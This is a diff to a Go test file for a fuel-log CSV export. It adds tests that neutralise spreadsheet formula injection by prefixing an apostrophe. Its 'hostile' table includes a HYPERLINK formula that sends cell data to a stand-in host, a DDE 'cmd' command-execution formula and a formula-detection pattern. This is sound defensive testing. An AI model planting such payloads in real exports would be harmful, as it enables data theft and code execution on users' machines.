@@ -6,9 +6,12 @@ import (
 	"encoding/json"
 	"io"
 	"os/exec"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
+	"unicode"
+	"unicode/utf8"
 
 	"golang.org/x/text/language"
 
@@ -71,6 +74,13 @@ func TestExportRFC4180(t *testing.T) {
 	at := time.Date(2026, 3, 1, 8, 0, 0, 123456000, time.UTC)
 	var in []fuel.Refuel
 	want := [][]string{Header}
+	// The one text of awkward that is neutralised (a tab first).
+	cell := func(s string) string {
+		if s == "\ttab first" {
+			return "'" + s
+		}
+		return s
+	}
 	for i, s := range awkward {
 		station := awkward[len(awkward)-1-i]
 		in = append(in, fuel.Refuel{
@@ -80,7 +90,7 @@ func TestExportRFC4180(t *testing.T) {
 		})
 		want = append(want, []string{
 			"9", "7", "2026-03-01T08:00:00.123456Z", "100.5", "E10", "electricity", "kWh", "40", "60", "1.5",
-			station, "true", "false", s, "2026-03-01T08:00:00.123456Z", "2026-03-01T08:00:00.123456Z",
+			cell(station), "true", "false", cell(s), "2026-03-01T08:00:00.123456Z", "2026-03-01T08:00:00.123456Z",
 		})
 	}
 	file := export(t, in)
@@ -122,7 +132,8 @@ sys.stdout.write(json.dumps(rows))`
 
 // TestExportGoRoundTrip reads the same export with our own import: it
 // returns a CRLF inside a field as LF (encoding/csv's reader does) and
-// trims the texts' leading and trailing white space.
+// trims the texts' leading and trailing white space (but for a
+// neutralised text, whose apostrophe comes first).
 func TestExportGoRoundTrip(t *testing.T) {
 	at := time.Date(2026, 3, 1, 8, 0, 0, 0, time.UTC)
 	var in []fuel.Refuel
@@ -139,6 +150,9 @@ func TestExportGoRoundTrip(t *testing.T) {
 	}
 	for i, r := range res.Refuels {
 		want := strings.TrimSpace(strings.ReplaceAll(awkward[i], "\r\n", "\n"))
+		if awkward[i] == "\ttab first" {
+			want = awkward[i]
+		}
 		if r.Remark != want || r.StationName != want {
 			t.Errorf("row %d: remark %q station %q, want %q", i+2, r.Remark, r.StationName, want)
 		}
@@ -150,7 +164,9 @@ func TestExportGoRoundTrip(t *testing.T) {
 
 // FuzzWrite writes arbitrary texts: encoding/csv's reader must get them
 // back unchanged but for CRLF read as LF (see TestExportRFC4180 for a
-// reader that changes nothing), and the file must stay one record a row.
+// reader that changes nothing) and at most one apostrophe first, which
+// restore takes off; no cell may start like a formula; and the file must
+// stay one record a row.
 func FuzzWrite(f *testing.F) {
 	for _, s := range awkward {
 		f.Add(s, "station")
@@ -171,8 +187,13 @@ func FuzzWrite(f *testing.F) {
 			t.Fatalf("%d records, want 3: %q", len(recs), file)
 		}
 		for _, rec := range recs[1:] {
-			if rec[6] != "kg" || rec[10] != strings.ReplaceAll(station, "\r\n", "\n") || rec[13] != strings.ReplaceAll(remark, "\r\n", "\n") {
+			if rec[6] != "kg" || restore(rec[10]) != strings.ReplaceAll(station, "\r\n", "\n") || restore(rec[13]) != strings.ReplaceAll(remark, "\r\n", "\n") {
 				t.Fatalf("read back %q, want station %q remark %q", rec, station, remark)
+			}
+			for _, c := range []string{rec[10], rec[13]} {
+				if formulaLike(c) {
+					t.Fatalf("cell %q starts like a formula", c)
+				}
 			}
 		}
 	})
@@ -189,20 +210,6 @@ func TestSpreadsheetExport(t *testing.T) {
 			IsFull: true, Remark: "a, b; c", CreatedAt: at, UpdatedAt: at},
 		{ID: 10, VehicleID: 7, RefuelTime: at.Add(time.Hour), Odometer: dec("17500"), FuelType: "diesel", Energy: fuel.Diesel,
 			Liters: dec("35"), TotalAmount: dec("52.5"), PricePerLiter: dec("1.5"), IsFull: false, CreatedAt: at, UpdatedAt: at},
-	}
-	// Texts a spreadsheet would run as formulas keep an apostrophe first;
-	// the same characters later in a text, and the plain export, do not.
-	formulas := map[string]string{
-		"=HYPERLINK(\"http://x\")": "'=HYPERLINK(\"http://x\")", "+1": "'+1", "-2": "'-2", "@SUM(A1)": "'@SUM(A1)",
-		"\tx": "'\tx", "\rx": "'\rx", "a=b": "a=b", "": "", "'=already": "'=already",
-	}
-	for text, want := range formulas {
-		if got := NewSpreadsheetWriter(io.Discard, false).text(text); got != want {
-			t.Errorf("spreadsheet text(%q) = %q, want %q", text, got, want)
-		}
-		if got := NewWriter(io.Discard).text(text); got != text {
-			t.Errorf("plain text(%q) = %q, want it unchanged", text, got)
-		}
 	}
 	for _, tc := range []struct {
 		decimalComma bool
@@ -239,5 +246,137 @@ func TestDecimalComma(t *testing.T) {
 		if got := DecimalComma(language.MustParse(tag)); got != want {
 			t.Errorf("DecimalComma(%s) = %t, want %t", tag, got, want)
 		}
+	}
+}
+
+// formulaLike reports whether a spreadsheet could take cell for a formula:
+// = + - @ or their full-width forms first, also after white space, or a
+// tab or CR first (OWASP's list).
+func formulaLike(cell string) bool {
+	first, _ := utf8.DecodeRuneInString(strings.TrimLeftFunc(cell, unicode.IsSpace))
+	return strings.ContainsRune("=+-@＝＋－＠", first) || strings.HasPrefix(cell, "\t") || strings.HasPrefix(cell, "\r")
+}
+
+// hostile are texts a spreadsheet would run, or that look like the
+// neutralised form of one, and the cells an export must write for them.
+var hostile = []struct{ text, cell string }{
+	{`=HYPERLINK("http://e.vil/"&A1)`, `'=HYPERLINK("http://e.vil/"&A1)`},
+	{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
+	{"+49 170 1234567", "'+49 170 1234567"},
+	{"-2+3", "'-2+3"},
+	{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
+	{"\t=1+1", "'\t=1+1"},
+	{"\r=1+1", "'\r=1+1"},
+	{"\tx", "'\tx"},
+	{" =1+1", "' =1+1"},
+	{"\u00a0@x", "'\u00a0@x"},
+	{"＝1+1", "'＝1+1"},
+	{"＋1", "'＋1"},
+	{"－1", "'－1"},
+	{"＠x", "'＠x"},
+	{"'=already neutralised", "''=already neutralised"},
+	{"'quoted", "''quoted"},
+	{"''", "'''"},
+	{"'", "''"},
+	{" 'spaced", "' 'spaced"},
+	{"a=b", "a=b"},
+	{"1-2", "1-2"},
+	{"plain", "plain"},
+	{"Grüße", "Grüße"},
+}
+
+func TestNeutralize(t *testing.T) {
+	for _, h := range hostile {
+		if got := neutralize(h.text); got != h.cell {
+			t.Errorf("neutralize(%q) = %q, want %q", h.text, got, h.cell)
+		}
+		if got := restore(h.cell); got != h.text {
+			t.Errorf("restore(%q) = %q, want %q", h.cell, got, h.text)
+		}
+	}
+	if got := neutralize(""); got != "" {
+		t.Errorf("neutralize(\"\") = %q", got)
+	}
+}
+
+// TestExportNeutralizesFormulas writes hostile texts with every writer,
+// the plain one too (the web client's Export downloads it as a .csv that
+// a spreadsheet opens): each text cell is written neutralised, each number
+// as it is, and Read gives the texts back unchanged.
+func TestExportNeutralizesFormulas(t *testing.T) {
+	at := time.Date(2026, 3, 1, 8, 0, 0, 0, time.UTC)
+	var in []fuel.Refuel
+	for i, h := range hostile {
+		in = append(in, fuel.Refuel{
+			ID: uint64(i + 1), VehicleID: 7, RefuelTime: at.Add(time.Duration(i) * time.Hour), Odometer: dec("1000.5"),
+			FuelType: h.text, Energy: fuel.Gasoline, Liters: dec("40.25"), TotalAmount: dec("60"), PricePerLiter: dec("1.491"),
+			StationName: h.text, Remark: h.text, IsFull: true, CreatedAt: at, UpdatedAt: at,
+		})
+	}
+	writers := []struct {
+		name  string
+		new   func(io.Writer) *Writer
+		comma rune
+		odo   string
+	}{
+		{"plain", NewWriter, ',', "1000.5"},
+		{"spreadsheet", func(w io.Writer) *Writer { return NewSpreadsheetWriter(w, false) }, ',', "1000.5"},
+		{"spreadsheet with decimal comma", func(w io.Writer) *Writer { return NewSpreadsheetWriter(w, true) }, ';', "1000,5"},
+	}
+	for _, wr := range writers {
+		t.Run(wr.name, func(t *testing.T) {
+			var buf bytes.Buffer
+			writeAll(t, wr.new(&buf), in)
+			cr := csv.NewReader(bytes.NewReader(buf.Bytes()))
+			cr.Comma = wr.comma
+			recs, err := cr.ReadAll()
+			if err != nil || len(recs) != len(in)+1 {
+				t.Fatalf("%d records, %v", len(recs), err)
+			}
+			for i, rec := range recs[1:] {
+				want := hostile[i].cell
+				if rec[4] != want || rec[10] != want || rec[13] != want {
+					t.Errorf("row %d: fuel_type %q station %q remark %q, want %q", i+2, rec[4], rec[10], rec[13], want)
+				}
+				if rec[3] != wr.odo || rec[0] != strconv.Itoa(i+1) {
+					t.Errorf("row %d: id %q odometer %q, want numbers as they are", i+2, rec[0], rec[3])
+				}
+			}
+			res, err := Read(bytes.NewReader(buf.Bytes()), Options{VehicleID: 7, FuelType: "gasoline"})
+			if err != nil || res.BadRows != 0 || len(res.Refuels) != len(in) {
+				t.Fatalf("read back %d refuels, bad rows %v, %v", len(res.Refuels), res.Errors, err)
+			}
+			for i, r := range res.Refuels {
+				h := hostile[i].text
+				if r.FuelType != h || r.StationName != h || r.Remark != h || !r.Odometer.Equal(dec("1000.5")) || !r.Liters.Equal(dec("40.25")) {
+					t.Errorf("row %d: read back fuel_type %q station %q remark %q odometer %s liters %s, want %q",
+						i+2, r.FuelType, r.StationName, r.Remark, r.Odometer, r.Liters, h)
+				}
+			}
+		})
+	}
+	// Numbers are never neutralised, a negative one neither (the service
+	// stores none, but the writer does not rely on that).
+	neg := in[0]
+	neg.Odometer, neg.TotalAmount = dec("-5"), dec("-0.5")
+	recs, err := csv.NewReader(strings.NewReader(export(t, []fuel.Refuel{neg}))).ReadAll()
+	if err != nil || recs[1][3] != "-5" || recs[1][8] != "-0.5" {
+		t.Fatalf("negative numbers written as %q, %v; want -5 and -0.5", recs, err)
+	}
+}
+
+// TestReadKeepsOtherProgramsApostrophes: only this service's own export is
+// neutralised; a Fuelly or LubeLogger note that starts with an apostrophe
+// is kept as it is, and a formula in one is stored as text (the next
+// export neutralises it).
+func TestReadKeepsOtherProgramsApostrophes(t *testing.T) {
+	lube := "Date,Odometer,FuelConsumed,Cost,Notes\n2024-09-02,12000,40.5,70.47,'quoted\n2024-09-03,12100,40.5,70.47,=1+1\n"
+	res := mustRead(t, lube, Options{})
+	if res.BadRows != 0 || len(res.Refuels) != 2 || res.Refuels[0].Remark != "'quoted" || res.Refuels[1].Remark != "=1+1" {
+		t.Fatalf("LubeLogger notes read as %+v", res)
+	}
+	native := "refuel_time,odometer_km,fuel_type,liters,total_amount,is_full,remark\n2024-09-02T08:00:00Z,12000,95,40.5,70.47,true,'quoted\n"
+	if got := mustRead(t, native, Options{}).Refuels[0].Remark; got != "quoted" {
+		t.Fatalf("our own format: remark %q, want the apostrophe taken off", got)
 	}
 }
